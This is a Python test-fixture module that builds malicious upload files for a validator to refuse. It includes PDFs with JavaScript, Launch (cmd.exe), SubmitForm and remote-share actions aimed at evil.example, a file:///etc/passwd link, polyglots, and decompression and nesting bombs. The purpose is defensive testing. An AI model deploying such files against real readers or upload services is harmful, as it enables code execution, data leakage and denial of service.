"""Files that somebody might hand in to reach whoever opens them, or the machine that looks at them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

CANARY = "Canary-Family-Name"


def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(595, 842))
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **saving)
        return out.getvalue()


def _root(key: str, value: Callable[[pikepdf.Pdf], object]) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root[key] = value(made)

    return _pdf(change)


def _note(**entries: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        square = Array([0, 0, 100, 100])
        note = Dictionary(Type=Name.Annot, Rect=square, **entries)
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return _pdf(change)


def _script() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"))


def _action(kind: str, **more: object) -> bytes:
    return _root("/OpenAction", lambda _: Dictionary(Type=Name.Action, S=Name(kind), **more))


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["notes.exe"] = b"MZ\x90"


def _nested_action(made: pikepdf.Pdf) -> None:
    """A script that only the second action of a link starts."""
    link = Dictionary(Type=Name.Action, S=Name.URI, URI=String("https://example.org/"), Next=_script())
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)
    made.pages[0].Annots = Array([made.make_indirect(note)])


def _swelling(made: pikepdf.Pdf) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(16 * 1024 * 1024)) for _ in range(40)) + packer.flush()
    made.pages[0].Contents = made.make_indirect(Stream(made, packed, Filter=Name.FlateDecode))


def _swelling_twice(made: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(bytes(300 * 1024 * 1024), 9), 9)
    made.pages[0].Contents = made.make_indirect(
        Stream(made, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode]))
    )


def _deep() -> bytes:
    """Lists in lists, deeper than a careless reader's stack."""
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(50 * 1024 * 1024))
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, content: bytes = b"", *, note: bytes = b"") -> bytes:
    """A picture that says of itself to be so large, with a note beside its points."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head)
    beside = _chunk(b"zTXt", b"note\0\0" + zlib.compress(note, 9)) if note else b""
    return start + beside + _chunk(b"IDAT", zlib.compress(content)) + _chunk(b"IEND", b"")


#: Name, the way it calls itself, and its bytes; each is refused, as paper and (of its kind) as a registrant's file.
REFUSED: dict[str, Callable[[], bytes]] = {
    "html.pdf": lambda: b"<!doctype html><script>alert(1)</script>",
    "svg.pdf": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "program.pdf": lambda: b"MZ\x90\x00" + bytes(500),
    "archive.pdf": _archive,
    "space-before.pdf": lambda: b" " + _pdf(),
    "picture-before.pdf": lambda: b"GIF89a" + _pdf(),
    "html-inside-the-head.pdf": lambda: _pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
    "html-behind.pdf": lambda: _pdf() + b"<html><script>alert(1)</script></html>",
    "archive-behind.pdf": lambda: _pdf() + _archive(),
    "cut-off.pdf": lambda: _pdf()[:200],
    "only-its-first-words.pdf": lambda: b"%PDF-1.7 nothing %%EOF",
    "deep.pdf": _deep,
    "opens-script.pdf": partial(_action, "/JavaScript", JS=String("app.alert(1)")),
    "opens-program.pdf": partial(_action, "/Launch", F=String("cmd.exe")),
    "opens-address.pdf": partial(_action, "/URI", URI=String("https://evil.example/")),
    "opens-other-file.pdf": partial(_action, "/GoToR", F=String(r"\\evil.example\share\x.pdf")),
    "sends-form.pdf": partial(_action, "/SubmitForm", F=String("https://evil.example/")),
    "script-by-name.pdf": partial(
        _root, "/Names", lambda _: Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _script()])))
    ),
    "script-on-closing.pdf": partial(_root, "/AA", lambda _: Dictionary(WC=_script())),
    "script-after-link.pdf": lambda: _pdf(_nested_action),
    "script-link.pdf": partial(
        _note, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)"))
    ),
    "file-link.pdf": partial(_note, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
    "xfa.pdf": partial(_root, "/AcroForm", lambda made: Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array())),
    "attachment.pdf": lambda: _pdf(_attached),
    "attachment-note.pdf": partial(_note, Subtype=Name.FileAttachment),
    "film.pdf": partial(_note, Subtype=Name.RichMedia),
    "elsewhere.pdf": partial(
        _root,
        "/Elsewhere",
        lambda made: made.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("https://x.example"))),
    ),
    "collection.pdf": partial(_root, "/Collection", lambda _: Dictionary(View=Name.D)),
    "protected.pdf": lambda: _pdf(encryption=pikepdf.Encryption(user="secret", owner="owner")),
    "protected-against-changes.pdf": lambda: _pdf(encryption=pikepdf.Encryption(user="", owner="owner")),
    "swelling.pdf": lambda: _pdf(_swelling, compress_streams=False),
    "swelling-twice.pdf": lambda: _pdf(_swelling_twice, compress_streams=False),
}

#: Refused where registrants send pictures.
REFUSED_PICTURES: dict[str, Callable[[], bytes]] = {
    "as-wide-as-memory.png": lambda: png(60_000, 60_000),
    "too-wide.png": lambda: png(30_000, 1),
    "swelling.png": lambda: png(1, 1, bytes(4), note=bytes(300 * 1024 * 1024)),
    "broken.png": lambda: png(100, 100, b"short"),
    "cut-off.jpg": lambda: b"\xff\xd8\xff\xe0" + bytes(20),
    "html.jpg": lambda: b"\xff\xd8\xff<html><script>alert(1)</script>",
    "svg.png": lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
}


def told_on_pdf() -> bytes:
    """A PDF that tells who made it, in every place where programs write that, and in a photograph inside."""

    def change(made: pikepdf.Pdf) -> None:
        made.docinfo["/Author"] = CANARY
        made.docinfo["/Producer"] = f"Printer of {CANARY}"
        made.Root.Metadata = made.make_stream(f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode())
        page = made.pages[0]
        page.Metadata = made.make_stream(CANARY.encode())
        page.PieceInfo = Dictionary(Program=Dictionary(Private=String(CANARY)))
        photograph = Stream(made, told_on_picture("JPEG"), Type=Name.XObject, Subtype=Name.Image)
        photograph.Filter = Name.DCTDecode
        page.Resources = Dictionary(XObject=Dictionary(Im0=made.make_indirect(photograph)))
        note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), T=String(CANARY))
        page.Annots = Array([made.make_indirect(note)])

    return _pdf(change, compress_streams=False)


def told_on_picture(kind: str) -> bytes:
    """A picture that tells where it was taken and by whom, with a web page behind its end."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x013B] = CANARY
    exif.get_ifd(0x8825)[1] = CANARY
    Image.new("RGB", (8, 8), "red").save(out, kind, exif=exif, comment=CANARY)
    return out.getvalue() + f"<html><script>{CANARY}</script>".encode()
